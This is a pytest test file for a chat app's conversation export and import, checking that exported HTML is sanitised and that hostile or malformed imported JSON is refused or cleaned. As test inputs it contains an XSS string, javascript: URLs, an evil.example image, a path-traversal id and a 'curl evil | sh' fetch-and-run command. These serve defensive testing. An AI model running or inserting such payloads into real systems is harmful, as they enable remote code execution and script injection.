"""Conversations and answers as documents, and brought back from JSON."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from qiusuo.chat.portable.shape import FORMAT
from qiusuo.web.entrance.guard import MAX_IMPORT_BYTES
from tests.support.chat_page import Page, page
from tests.support.scripted_model import Reply

SCRIPT = '<script>alert(1)</script> [x](javascript:alert(1)) <img src="https://evil.example/p.png">'

MAGIC = {"engine": "e", "outcome": "magic", "ms": 1}


def export(it: Page, session: str, kind: str) -> httpx.Response:
    return it.client.get(f"/api/chat/sessions/{session}/export.{kind}")


def bring(it: Page, data: Any) -> httpx.Response:
    return it.client.post("/api/chat/import", content=data if isinstance(data, bytes) else json.dumps(data).encode())


def talked(it: Page) -> str:
    session = it.new(search=True, results=3)
    it.ask(session, "今天的新闻")
    it.change(session, search=False)
    it.ask(session, f"And this? {SCRIPT}")
    return session


def same(turn: dict[str, Any]) -> dict[str, Any]:
    """Return what must be equal of a turn: all but the commands of another server."""
    return turn | {
        "notices": [notice | {"commands": []} for notice in turn["notices"]],
        "rounds": [
            each | {"attempts": [{k: v for k, v in one.items() if k != "commands"} for one in each["attempts"]]}
            for each in turn["rounds"]
        ],
    }


class TestDocuments:
    def test_markdown_has_all_answers_with_their_references(self) -> None:
        with page(Reply.text("见 [1]。"), Reply.text(f"See [2]. {SCRIPT}")) as it:
            session = talked(it)
            got = export(it, session, "md")
        assert got.headers["content-type"].startswith("text/markdown")
        assert "conversation.md" in got.headers["content-disposition"]
        assert f"filename*=UTF-8''{quote('今天的新闻.md')}" in got.headers["content-disposition"]
        lines = got.text.splitlines()
        assert lines[0] == "# 今天的新闻"
        assert next(line for line in lines if line.startswith("## ")) == "## 今天的新闻"
        assert "### 参考文献\n\n- [1] " in got.text
        assert "<https://site1.example.com/page/1>" in got.text

    def test_html_runs_nothing_and_numbers_each_answer_s_references(self) -> None:
        with page(Reply.text("见 [1]。"), Reply.text(f"See [1]. {SCRIPT}")) as it:
            session = talked(it)
            got = export(it, session, "html")
            second = it.show(session)["turns"][1]["id"]
            alone = it.client.get(f"/api/chat/sessions/{session}/turns/{second}/report.html").text
        # A source of an earlier answer is listed below the one that cites it.
        assert 'href="#ref-2-1"' in got.text
        assert 'id="ref-2-1"' in got.text
        assert 'id="ref-1"' in alone
        assert got.headers["content-security-policy"].startswith("default-src 'none'")
        assert got.text.count("<h1>") == 1
        assert 'href="#ref-1-1"' in got.text
        assert 'id="ref-1-1"' in got.text
        assert "<script" not in got.text
        assert "<img" not in got.text
        assert 'href="javascript' not in got.text

    def test_what_there_is_not(self) -> None:
        with page(Reply.text("好。"), Reply.text("好。")) as it:
            session = talked(it)
            assert export(it, session, "docx").status_code == 400
            assert export(it, "nobody", "md").status_code == 404
            assert it.client.get(f"/api/chat/sessions/{session}/turns/none/report.json").status_code == 404


class TestBroughtBack:
    def test_the_same_conversation_comes_back_and_goes_on(self) -> None:
        with page(Reply.text("见 [1]。"), Reply.text("See [2] <b>."), Reply.text("Third.")) as it:
            session = talked(it)
            told = export(it, session, "json")
            assert "conversation.json" in told.headers["content-disposition"]
            answer = bring(it, told.json())
            assert answer.status_code == 201, answer.text
            again = answer.json()["id"]
            first, second = it.show(session), it.show(again)
            assert again != session
            assert [same(turn) for turn in second["turns"]] == [same(turn) for turn in first["turns"]]
            assert len(second["turns"][0]["sources"]) == 3
            assert (second["settings"], second["title"]) == (first["settings"], first["title"])
            assert second["createdAt"] == first["createdAt"]
            assert export(it, again, "json").json() == told.json()
            it.ask(again, "And then?")
            # The model knows what was said.
            assert "见 [1]。" in it.model.requests[-1].prompt

    def test_one_answer_too(self) -> None:
        with page(Reply.text("见 [1]。"), Reply.text("好。")) as it:
            session = talked(it)
            turn = it.show(session)["turns"][0]
            alone = it.client.get(f"/api/chat/sessions/{session}/turns/{turn['id']}/report.json").json()
            again = bring(it, alone).json()["id"]
            assert [same(each) for each in it.show(again)["turns"]] == [same(turn)]

    def test_ids_that_are_there_twice_are_made_anew(self) -> None:
        with page(Reply.text("好。"), Reply.text("好。")) as it:
            data = export(it, talked(it), "json").json()
            data["turns"] += [*data["turns"], {**data["turns"][0], "id": "unsent-1"}]
            again = it.show(bring(it, data).json()["id"])
            ids = {turn["id"] for turn in again["turns"]}
            assert len(ids) == 5
            assert "unsent-1" not in ids

    def test_nothing_of_another_server_is_to_be_typed(self) -> None:
        with page(Reply.text("好。"), Reply.text("好。")) as it:
            data = export(it, talked(it), "json").json()
            data["turns"][0]["notices"] = [
                {"code": "refused", "level": "error", "title": "x", "message": SCRIPT, "commands": ["curl evil | sh"]}
            ]
            data["turns"][0]["sources"] = [
                {"number": 1, "title": SCRIPT, "url": "javascript:alert(1)"},
                {"number": 2, "title": "b", "url": "https://b.example/"},
            ]
            again = it.show(bring(it, data).json()["id"])
            [notice] = again["turns"][0]["notices"]
            assert notice["commands"] == []
            assert [source["url"] for source in again["turns"][0]["sources"]] == ["", "https://b.example/"]
            assert "javascript:" not in export(it, again["id"], "html").text.replace("[x](javascript:", "")

    def test_who_has_as_many_as_may_be_is_told(self) -> None:
        with page(Reply.text("好。"), Reply.text("好。")) as it:
            data = export(it, talked(it), "json").json()
            data["turns"] *= 300
            answer = bring(it, data)
            assert (answer.status_code, answer.json()["error"]) == (400, "LimitReached")


@pytest.fixture(scope="module")
def it() -> Iterator[Page]:
    with page(Reply.text("见 [1]。")) as it:
        it.ask(it.new(search=True), "问")
        yield it


@pytest.fixture
def data(it: Page) -> dict[str, Any]:
    session = it.client.get("/api/chat/sessions").json()["sessions"][-1]["id"]
    data: dict[str, Any] = export(it, session, "json").json()
    assert data["format"] == FORMAT
    return data


def _with(data: dict[str, Any], **turn: Any) -> dict[str, Any]:
    return {**data, "turns": [{**data["turns"][0], **turn}]}


class TestHostileFiles:
    @pytest.mark.parametrize(
        "change",
        [
            lambda data: {**data, "format": "else"},
            lambda data: {**data, "version": 2},
            lambda data: {**data, "turns": []},
            lambda data: {**data, "turns": "all"},
            lambda data: {**data, "title": 7},
            lambda data: {**data, "title": "x" * 201},
            lambda data: _with(data, id="../../etc"),
            lambda data: _with(data, id=""),
            lambda data: _with(data, answer={"a": 1}),
            lambda data: _with(data, answer="x" * 1_000_001),
            lambda data: _with(data, state="on fire"),
            lambda data: _with(data, sources=[{"number": "1", "title": "a", "url": ""}]),
            lambda data: _with(data, sources=[{"number": -1, "title": "a", "url": ""}]),
            lambda data: _with(data, sources=[{"number": 1, "title": ["a"], "url": ""}]),
            lambda data: _with(data, rounds=[{"number": 1}]),
            lambda data: _with(data, notices=[{"code": "refused", "level": "loud"}]),
            lambda data: _with(data, notices=[{"code": "refused", "level": "info"}] * 101),
            lambda data: _with(data, check={"report": {"counts": {}, "claims": [{"claim": 1}]}}),
            lambda data: _with(data, rounds=[{**data["turns"][0]["rounds"][0], "attempts": [MAGIC]}]),
            lambda _: b"[" * 100_000,
            lambda _: b"\xff\xfe",
            lambda _: b"",
            lambda _: b"null",
        ],
    )  # fmt: skip
    def test_are_refused_in_words(self, it: Page, data: dict[str, Any], change: Any) -> None:
        answer = bring(it, change(data))
        assert (answer.status_code, answer.json()["code"]) == (400, "portable.unreadable")
        assert it.client.get("/api/chat/sessions").json()["total"] == 1

    def test_too_large(self, it: Page) -> None:
        answer = bring(it, b" " * (MAX_IMPORT_BYTES + 1))
        assert answer.status_code == 413

    def test_one_that_still_runs_has_stopped(self, it: Page, data: dict[str, Any]) -> None:
        again = bring(it, _with(data, state="running", stage="answering", kept={"x": 1}, more="x"))
        [turn] = it.show(again.json()["id"])["turns"]
        assert (turn["state"], turn["stage"]) == ("stopped", None)
        it.client.delete(f"/api/chat/sessions/{again.json()['id']}")
